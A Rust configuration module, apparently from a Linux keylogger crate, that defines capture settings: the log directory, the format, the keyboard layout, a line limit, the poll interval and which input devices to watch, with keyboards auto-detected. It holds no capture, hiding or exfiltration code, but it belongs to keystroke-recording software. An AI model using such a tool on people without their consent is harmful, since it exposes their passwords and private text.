use crate::error::KeyloggerError;
use crate::keymap::Layout;
use crate::line_buffer::DEFAULT_LINE_LIMIT;
use crate::sink::LogFormat;
use crate::KeyloggerResult;
use std::path::PathBuf;
use std::time::Duration;

/// The default directory logs are written to.
pub const DEFAULT_LOG_DIR: &str = "/var/log/keyline";

/// Settings for a capture session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CaptureConfig {
    /// Where the daily log files are written.
    pub log_dir: PathBuf,
    pub format: LogFormat,
    pub layout: Layout,
    /// The maximum number of keys in a line before it is force-submitted.
    pub line_limit: usize,
    /// Log the unsubmitted line when capture stops.
    pub flush_on_exit: bool,
    /// How long to wait for input before re-checking for shutdown. `None` waits indefinitely.
    pub poll_interval: Option<Duration>,
    /// The devices to watch. Keyboards are auto-detected if empty.
    pub devices: Vec<PathBuf>,
}

impl Default for CaptureConfig {
    fn default() -> Self {
        Self {
            log_dir: PathBuf::from(DEFAULT_LOG_DIR),
            format: LogFormat::default(),
            layout: Layout::default(),
            line_limit: DEFAULT_LINE_LIMIT,
            flush_on_exit: false,
            poll_interval: None,
            devices: Vec::new(),
        }
    }
}

impl CaptureConfig {
    /// Check the settings are usable.
    pub fn validate(&self) -> KeyloggerResult<()> {
        if self.line_limit == 0 {
            return Err(KeyloggerError::InvalidConfig(
                "line limit must be at least 1".into(),
            ));
        }

        if self.log_dir.as_os_str().is_empty() {
            return Err(KeyloggerError::InvalidConfig(
                "log directory must not be empty".into(),
            ));
        }

        if self.poll_interval == Some(Duration::ZERO) {
            return Err(KeyloggerError::InvalidConfig(
                "poll interval must be positive".into(),
            ));
        }

        Ok(())
    }
}
